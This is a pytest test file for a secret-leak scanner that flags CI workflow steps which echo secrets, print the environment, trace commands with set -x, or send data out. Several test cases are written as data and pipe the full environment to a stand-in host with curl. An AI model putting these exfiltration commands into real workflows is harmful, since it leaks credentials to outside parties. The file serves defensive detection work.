"""Steps of a workflow that print secrets, told before they have run."""

from __future__ import annotations

import time
from pathlib import Path

import pytest
from report.builders import finding

from leakguard.blob import Blob, Origin
from leakguard.detect.scanner import Scanner
from leakguard.detect.workflow import printed
from leakguard.finding import Candidate, Exposure, Outcome, Scanned
from leakguard.load.pack import open_pack
from leakguard.report import FORMATS
from leakguard.report.advice import advise
from leakguard.report.next_steps import steps
from leakguard.report.style import Style

HEAD = "on: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n"
(RULES,) = open_pack(None).book.of_code().values()
ENV = "        env:\n          KEY: ${{ secrets.KEY }}\n"
PATH = ".github/workflows/build.yml"


def look(step: str, head: str = HEAD, path: str = PATH) -> list[Candidate]:
    pack = open_pack(None)
    scanner = Scanner(pack.book, pack.prefilter.scan)
    return scanner.look(Blob(Origin("tree" if path else "commit", path), (head + step).encode()))


def told(step: str, head: str = HEAD, path: str = PATH) -> list[str]:
    return [one.rule.id.removeprefix("workflow-") for one in look(step, head, path)]


@pytest.mark.parametrize(
    ("step", "rule"),
    [
        ("      - run: echo ${{ secrets.KEY }}\n", "secret-printed"),
        ('      - run: |\n          make\n          echo "it is ${{secrets.KEY}}" && make x\n',
         "secret-printed"),
        ("      - run: echo '${{ toJSON(secrets) }}'\n", "secret-printed"),
        ("      - run: echo $KEY | base64 -w0\n" + ENV, "secret-printed"),
        ("      - run: if true; then printf '%s' \"${KEY}\"; fi\n" + ENV, "secret-printed"),
        ("      - shell: pwsh\n        run: Write-Host $env:KEY\n" + ENV, "secret-printed"),
        ("      - run: env\n" + ENV, "environment-printed"),
        ("      - run: |\n          printenv | sort\n" + ENV, "environment-printed"),
        ("      - run: printenv KEY\n" + ENV, "environment-printed"),
        ("      -\n        run: make\n      - run: env" + "\n" + ENV, "environment-printed"),
        ("      - run: env | curl -d @- https://collect.example\n", "environment-sent"),
        ("      - run: env | base64 | curl -d @- https://collect.example\n", "environment-sent"),
        ('      - run: curl -d "$(env)" https://collect.example\n', "environment-sent"),
        ("      - run: |\n          set -x\n          deploy --key $KEY\n" + ENV, "secret-traced"),
        ("      - run: |\n          set -eux\n          deploy ${{ secrets.KEY }}\n",
         "secret-traced"),
        ("      - run: bash -x deploy.sh\n" + ENV, "secret-traced"),
    ],
)  # fmt: skip
def test_a_step_that_prints_secrets_is_told(step: str, rule: str) -> None:
    assert told(step) == [rule]


@pytest.mark.parametrize(
    "step",
    [
        "      - run: echo ${{ secrets.KEY }} | docker login -u me --password-stdin\n",
        '      - run: echo "KEY=${{ secrets.KEY }}" >> $GITHUB_ENV\n',
        '      - run: echo "::add-mask::${{ secrets.KEY }}"\n',
        "      - run: echo start && deploy ${{ secrets.KEY }}\n",
        "      - run: echo ${{ github.ref }} $HOME\n",
        "      - run: deploy\n" + ENV,
        "      - run: env\n      - run: make\n" + ENV,
        "      - run: env python x.py\n" + ENV,
        "      - run: printenv HOME\n" + ENV,
        "      - run: printenv > before.txt\n" + ENV,
        "      - run: env | grep -c NODE\n",
        "      - run: set -e\n" + ENV,
        "      - run: |\n          set -x\n          make\n          set +x\n"
        "          deploy $KEY\n" + ENV,
        "      - run: |\n          set -x\n          make\n      - run: deploy $KEY\n" + ENV,
        "      # run: echo ${{ secrets.KEY }}\n",
    ],
)  # fmt: skip
def test_a_step_that_uses_secrets_and_shows_none_is_not(step: str) -> None:
    assert told(step) == []


@pytest.mark.parametrize("env", ["env:\n  KEY: ${{ secrets.KEY }}\n",
                                 'env: {KEY: "${{ secrets.KEY }}"}\n'])  # fmt: skip
def test_the_environment_of_the_whole_workflow_counts(env: str) -> None:
    assert told("      - run: printenv\n", env + HEAD) == ["environment-printed"]


@pytest.mark.parametrize("path", ["action.yml", ".gitea/workflows/a.yaml",
                                  "sub/.github/workflows/a.yml", ""])  # fmt: skip
def test_every_place_of_workflows_is_known(path: str) -> None:
    assert told("      - run: echo ${{ secrets.KEY }}\n", path=path) == ["secret-printed"]


def test_other_files_may_say_what_they_like() -> None:
    assert told("      - run: echo ${{ secrets.KEY }}\n", path="docs/example.yml") == []


def test_a_log_that_quotes_a_workflow_is_none() -> None:
    pack = open_pack(None)
    text = (HEAD + "      - run: echo ${{ secrets.KEY }}\n").encode()
    assert not Scanner(pack.book, pack.prefilter.scan).look(Blob(Origin("ci_log", ""), text))


def test_a_rule_that_is_switched_off_tells_nothing(tmp_path: Path) -> None:
    (tmp_path / ".leakguard.yml").write_text("rules:\n  disable: [workflow-secret-printed]\n")
    pack = open_pack(str(tmp_path))
    text = (HEAD + "      - run: echo ${{ secrets.KEY }}\n      - run: env\n" + ENV).encode()
    found = Scanner(pack.book, pack.prefilter.scan).look(Blob(Origin("tree", PATH), text))
    assert [one.rule.id for one in found] == ["workflow-environment-printed"]


def test_the_command_is_shown_at_its_place() -> None:
    (one,) = look("      - run: make\n      - run: echo ${{ secrets.KEY }}\n")
    assert (one.location.start_line, one.location.start_column) == (7, 14)
    assert one.confidence == "likely"
    assert "echo" in one.line_text


def test_the_way_out_is_the_fix_and_nothing_is_rotated() -> None:
    (one,) = look("      - run: echo ${{ secrets.KEY }}\n")
    for exposure in Exposure:
        found = finding(rule=one.rule, exposure=exposure)
        assert advise(found, "tree").text == one.rule.fix
        assert [step.label for step in steps([found])] == ["Is it meant?"]
    page = Outcome("ci", (found,), Scanned("changed file", 1))
    for shape in ("sarif", "summary", "html"):
        text = FORMATS[shape](page, Style(colour=False, links=False), False)
        assert "rotate it first" not in text
        assert "leakguard respond" not in text


HOSTILE = {
    "steps": "- run: x\n" * 100_000,
    "no step": "- a\n" * 99_000 + "run: x\n" * 90_000,
    "blocks": "  run: |\n" * 100_000,
    "pipes": "- run: echo x " + "|cat " * 200_000,
    "nested": "".join(" " * at + "- run: x\n" for at in range(1400)),
    "words": "- run: " + "echo " * 200_000,
    "names": "- env:\n" + "    A: ${{ secrets.A }}\n" * 40_000 + "  run: env\n" * 10_000,
}


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_file_costs_little(name: str) -> None:
    began = time.process_time()
    list(printed(HOSTILE[name].encode()[: 1 << 20], PATH, RULES))
    assert time.process_time() - began < 5
